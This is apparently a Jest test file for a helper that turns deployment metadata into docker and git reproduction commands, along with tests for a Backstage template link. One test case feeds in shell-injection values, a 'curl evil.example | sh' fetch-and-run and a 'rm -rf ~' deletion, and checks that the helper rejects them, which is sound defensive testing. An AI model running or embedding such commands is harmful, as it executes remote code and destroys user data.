import { reproduceCommands, scaffolderTemplateLink } from './commands';

const DIGEST = `sha256:${'ab'.repeat(32)}`;
const SHA = '4f1c2a9e8b7d6c5a4f3e2d1c0b9a8f7e6d5c4b3a';

describe('reproduceCommands', () => {
  it.each([
    [
      'an image pinned by digest and a full SHA',
      { artifact: `ghcr.io/acme/payments:1.4.2@${DIGEST}`, revision: SHA },
      {
        image: `ghcr.io/acme/payments@${DIGEST}`,
        pinned: true,
        pull: `docker pull ghcr.io/acme/payments@${DIGEST}`,
        run: `docker run --rm -it ghcr.io/acme/payments@${DIGEST}`,
        revision: SHA,
        checkout: `git fetch origin ${SHA} && git checkout ${SHA}`,
        worktree: `git worktree add ../payments-production ${SHA}`,
      },
    ],
    [
      'a tag only and an abbreviated SHA',
      { artifact: 'registry:5000/acme/payments:1.4.2', revision: 'abc1234' },
      {
        image: 'registry:5000/acme/payments:1.4.2',
        pinned: false,
        pull: 'docker pull registry:5000/acme/payments:1.4.2',
        run: 'docker run --rm -it registry:5000/acme/payments:1.4.2',
        revision: 'abc1234',
        checkout: 'git fetch origin && git checkout abc1234',
        worktree: 'git worktree add ../payments-production abc1234',
      },
    ],
    ['nothing', {}, { pinned: false }],
    [
      'values that would inject shell syntax',
      {
        artifact: 'acme/app:1; curl evil.example | sh',
        revision: 'main; rm -rf ~',
      },
      { pinned: false },
    ],
  ])('%s', (_name, deployment, expected) => {
    expect(reproduceCommands('payments', 'production', deployment)).toEqual(
      expected,
    );
  });
});

describe('scaffolderTemplateLink', () => {
  it.each([
    ['replica', '/create/templates/default/replica'],
    ['sre/replica', '/create/templates/sre/replica'],
    ['template:sre/replica', '/create/templates/sre/replica'],
  ])('links %s to %s with the form prefilled', (template, path) => {
    const link = scaffolderTemplateLink(template, {
      artifact: 'a@b',
      revision: SHA,
      version: undefined,
    });
    const url = new URL(link, 'http://backstage.test');
    expect(url.pathname).toBe(path);
    expect(JSON.parse(url.searchParams.get('formData')!)).toEqual({
      artifact: 'a@b',
      revision: SHA,
    });
  });
});
